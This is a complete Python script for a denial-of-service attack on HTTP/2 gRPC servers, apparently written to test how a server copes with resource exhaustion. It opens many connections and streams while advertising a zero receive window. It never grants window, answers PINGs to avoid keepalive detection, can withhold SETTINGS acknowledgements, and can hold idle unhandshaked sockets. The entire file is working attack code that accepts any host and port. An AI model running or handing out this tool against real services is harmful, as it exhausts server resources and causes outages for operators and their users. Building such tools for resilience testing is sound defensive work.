#!/usr/bin/python3
"""A hostile HTTP/2 client that reads nothing: it opens many gRPC calls on many connections, each
stream advertising a zero receive window (SETTINGS_INITIAL_WINDOW_SIZE = 0), and never grants any
window, so the server can send response headers but no response bytes. It keeps the TCP sockets
drained (a slow reader at the HTTP/2 level, not at the TCP level) and answers PINGs, as an HTTP/2
library would, so keepalive alone does not catch it.

Written from RFC 9113 and RFC 7541 with the standard library only (no HTTP/2 package), so it can send
what a well-behaved library would not (e.g. never acknowledge the server's SETTINGS).

usage: slow_reader.py HOST PORT PATH BODY_HEX [--connections N] [--streams N] [--hold SECONDS]
                      [--no-settings-ack] [--authorization VALUE] [--source ADDRESS] [--silent]
--source binds the client sockets to another loopback address (127.0.0.2, ...), so that a test can
tell this attacker's peer address from its legitimate callers'. --silent opens the TCP connections
and sends nothing at all (not even the HTTP/2 preface): idle connections that never handshake.
Prints one JSON object: streams sent, RST_STREAMs and GOAWAYs received, connections the server
closed, and connect failures.
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    # Literal header field without indexing, new name (RFC 7541 6.2.2), no Huffman coding.
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


class Conn:
    def __init__(self, host, port, ack_settings, source="", silent=False):
        self.sock = socket.create_connection((host, port), timeout=10,
                                             source_address=(source, 0) if source else None)
        self.sock.setblocking(False)
        self.ack_settings = ack_settings
        self.buf = b""
        self.out = b""
        self.closed = False
        self.next_stream = 1
        if silent:
            return
        # Zero stream window; no change to the connection window (it cannot be lowered).
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0) +
                                  struct.pack(">HI", 0x2, 0)))

    def send(self, data):
        self.out += data
        self.flush()

    def flush(self):
        while self.out and not self.closed:
            try:
                n = self.sock.send(self.out)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            self.out = self.out[n:]

    def on_readable(self, stats):
        try:
            data = self.sock.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            if not self.closed:
                stats["closed_by_server"] += 1
            self.closed = True
            return
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[0:3], "big")
            if len(self.buf) < 9 + length:
                break
            kind, flags = self.buf[3], self.buf[4]
            payload = self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            if kind == SETTINGS and not flags & ACK and self.ack_settings:
                self.send(frame(SETTINGS, ACK, 0, b""))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM:
                stats["rst_stream"] += 1
            elif kind == GOAWAY:
                stats["goaway"] += 1
            elif kind == DATA:
                stats["data_bytes"] += length

    def open_call(self, host, path, body, authorization):
        stream = self.next_stream
        self.next_stream += 2
        block = (hpack_literal(":method", "POST") + hpack_literal(":scheme", "http") +
                 hpack_literal(":path", path) + hpack_literal(":authority", host) +
                 hpack_literal("content-type", "application/grpc") +
                 hpack_literal("te", "trailers"))
        if authorization:
            block += hpack_literal("authorization", authorization)
        message = b"\x00" + struct.pack(">I", len(body)) + body
        self.send(frame(HEADERS, END_HEADERS, stream, block) +
                  frame(DATA, END_STREAM, stream, message))


def pump(conns, stats, seconds):
    end = time.time() + seconds
    while True:
        left = end - time.time()
        if left <= 0:
            return
        live = [c for c in conns if not c.closed]
        if not live:
            time.sleep(min(left, 0.2))
            continue
        readable, writable, _ = select.select([c.sock for c in live],
                                              [c.sock for c in live if c.out], [], min(left, 0.2))
        by_sock = {c.sock: c for c in live}
        for s in readable:
            by_sock[s].on_readable(stats)
        for s in writable:
            by_sock[s].flush()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("path")
    p.add_argument("body_hex")
    p.add_argument("--connections", type=int, default=60)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--hold", type=float, default=5.0)
    p.add_argument("--no-settings-ack", action="store_true")
    p.add_argument("--authorization", default="")
    p.add_argument("--source", default="")
    p.add_argument("--silent", action="store_true")
    a = p.parse_args()
    body = bytes.fromhex(a.body_hex)
    stats = {"streams_sent": 0, "rst_stream": 0, "goaway": 0, "closed_by_server": 0,
             "connect_failures": 0, "data_bytes": 0}
    conns = []
    for _ in range(a.connections):
        try:
            conns.append(Conn(a.host, a.port, not a.no_settings_ack, a.source, a.silent))
        except OSError:
            stats["connect_failures"] += 1
    pump(conns, stats, 0.2)
    authority = f"{a.host}:{a.port}"
    # Streams go out in rounds over every connection, draining between rounds.
    batch = 50
    for start in range(0, 0 if a.silent else a.streams, batch):
        for c in conns:
            for _ in range(min(batch, a.streams - start)):
                if c.closed:
                    break
                c.open_call(authority, a.path, body, a.authorization)
                stats["streams_sent"] += 1
        pump(conns, stats, 0.01)
    pump(conns, stats, a.hold)
    stats["connections_open_at_end"] = sum(1 for c in conns if not c.closed)
    for c in conns:
        c.sock.close()
    print(json.dumps(stats))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
